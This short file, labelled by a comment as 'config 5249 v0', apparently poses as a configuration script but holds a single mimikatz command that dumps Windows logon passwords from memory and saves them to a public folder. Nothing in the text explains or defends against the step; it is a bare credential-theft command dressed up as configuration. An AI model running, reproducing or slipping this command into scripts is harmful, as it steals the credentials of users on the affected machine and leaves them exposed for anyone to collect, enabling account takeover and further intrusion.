REM config 5249 v0
mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
